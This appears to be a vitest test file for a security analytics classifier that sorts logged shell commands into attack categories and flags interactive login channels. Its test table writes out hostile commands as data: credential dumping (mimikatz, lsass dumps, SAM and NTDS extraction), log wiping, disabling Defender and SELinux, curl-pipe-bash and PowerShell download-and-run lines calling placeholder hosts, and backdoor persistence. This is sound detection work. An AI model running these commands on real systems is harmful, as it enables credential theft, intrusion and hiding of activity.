import { describe, expect, it } from 'vitest';
import { classifyCommand, type CommandClass, interactiveChannel } from '../../../src/analytics/privileged-access.ts';

const KNOWN: ReadonlyArray<readonly [string, CommandClass]> = [
  ['mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit', 'credential-dumping'],
  ['procdump64.exe -accepteula -ma lsass.exe C:\\Temp\\l.dmp', 'credential-dumping'],
  ['rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\out.dmp full', 'credential-dumping'],
  ['reg save HKLM\\SAM C:\\temp\\sam.hive', 'credential-dumping'],
  ['ntdsutil "ac i ntds" "ifm" "create full c:\\temp" q q', 'credential-dumping'],
  ['sudo cat /etc/shadow', 'credential-dumping'],
  ['wevtutil cl Security', 'log-tampering'],
  ['Clear-EventLog -LogName Security,System', 'log-tampering'],
  ['history -c && exit', 'log-tampering'],
  ['sudo rm -rf /var/log/auth.log', 'log-tampering'],
  ['Set-MpPreference -DisableRealtimeMonitoring $true', 'defense-evasion'],
  ['sudo setenforce 0', 'defense-evasion'],
  ['systemctl stop auditd', 'defense-evasion'],
  ['curl -s http://198.51.100.7/x.sh | bash', 'download-execute'],
  ['wget -q http://198.51.100.7/a -O /tmp/a && chmod +x /tmp/a && /tmp/a', 'download-execute'],
  ["powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')\"", 'download-execute'],
  ['certutil.exe -urlcache -split -f http://x/p.exe p.exe', 'download-execute'],
  ['schtasks /create /sc minute /mo 5 /tn upd /tr C:\\p.exe', 'persistence'],
  ['echo ssh-ed25519 AAAA... >> /root/.ssh/authorized_keys', 'persistence'],
  ['sudo systemctl enable backdoor.service', 'persistence'],
  ['sudo -i', 'privilege-escalation'],
  ['su -', 'privilege-escalation'],
  ['chmod u+s /bin/bash', 'privilege-escalation'],
  ['net localgroup administrators eve /add', 'privilege-escalation'],
  ['useradd -m -s /bin/bash support2', 'account-management'],
  ['net user helpdesk P@ss /add', 'account-management'],
  ['Set-ADAccountPassword -Identity jdoe -Reset', 'account-management'],
  ['whoami /all', 'recon'],
  ['net group "Domain Admins" /domain', 'recon'],
  ['nltest /dclist:corp', 'recon'],
  ['nmap -sS 10.0.0.0/24', 'recon'],
  ['systemctl status nginx', 'normal-admin'],
  ['sudo systemctl restart postgresql', 'normal-admin'],
  ['df -h', 'normal-admin'],
  ['tail -n 200 /var/log/syslog', 'normal-admin'],
  ['sudo apt-get upgrade -y', 'normal-admin'],
  ['kubectl get pods -n web', 'normal-admin'],
  ['Get-Service W32Time', 'normal-admin'],
  ['./frobnicate --all', 'other'],
  ['   ', 'other'],
];

describe('classifyCommand', () => {
  for (const [line, cls] of KNOWN) {
    it(`${JSON.stringify(line)} → ${cls}`, () => expect(classifyCommand(line)).toBe(cls));
  }

  it('ignores case and runs of white space', () => {
    expect(classifyCommand('WEVTUTIL   CL   Security')).toBe('log-tampering');
  });
});

describe('interactiveChannel', () => {
  const base = { category: 'authentication', action: 'logon', outcome: 'success' };
  it('names a person at the keyboard: web, mail, VPN, RDP, a typed command', () => {
    expect(interactiveChannel({ ...base, category: 'web', action: 'http_request' })).toBe('web');
    expect(interactiveChannel({ ...base, category: 'email', action: 'email_send' })).toBe('email');
    expect(interactiveChannel({ ...base, action: 'vpn_connect' })).toBe('vpn');
    expect(interactiveChannel({ ...base, action: 'remote_logon', protocol: 'rdp' })).toBe('rdp');
    expect(interactiveChannel({ ...base, category: 'process', action: 'command', command: 'ls', interactive: true })).toBe('shell');
  });

  it('is null for automation: an SSH logon, a command without a terminal, a failed RDP logon', () => {
    expect(interactiveChannel({ ...base, action: 'remote_logon', protocol: 'ssh' })).toBeNull();
    expect(interactiveChannel({ ...base, category: 'process', action: 'command', command: 'rsync -a /srv /backup' })).toBeNull();
    expect(interactiveChannel({ ...base, action: 'remote_logon', protocol: 'rdp', outcome: 'failure' })).toBeNull();
  });
});
